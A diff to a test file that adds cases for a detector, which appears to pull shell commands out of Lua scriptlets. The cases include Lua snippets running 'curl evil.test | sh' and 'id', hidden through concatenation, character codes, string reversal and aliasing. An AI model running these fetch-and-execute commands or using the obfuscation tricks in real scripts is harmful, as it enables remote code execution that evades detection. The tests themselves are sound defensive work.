@@ -12,6 +12,15 @@ describe('shell commands in lua scriptlets', () => {
     ['local c = "cu" .. "rl evil.test | sh"\nos.execute(c)', 'curl evil.test | sh'],
     ['os.execute("\\99url \\x41\\"b\\"")', 'curl A"b"'],
     ['print("hello")', ''],
+    ['local function get(h) return "curl " .. h .. " | sh" end\nos.execute(get(x))', 'curl $h | sh'],
+    ['local h = "evil.test"\nos.execute("curl " .. h .. " | sh")', 'evil.test\ncurl evil.test | sh'],
+    ['os.execute(string.char(105, 0x64))', 'id'],
+    ['os.execute(("hs | x lruc"):reverse())', 'curl x | sh'],
+    ['os.execute(string.reverse("di"))', 'id'],
+    ['os.execute(table.concat({"curl", "x", "| sh"}, " "))', 'curl x | sh'],
+    ['os.execute(string.format("curl %s | %s", host, "sh"))', 'curl $host | sh'],
+    ['local run = os.execute\nrun("id")', 'id'],
+    ['os.execute(table.concat({string.char(99), "url x | sh"}))', 'curl x | sh'],
   ])('%s', (script, commands) => {
     expect(luaCommands(script)).toBe(commands)
   })
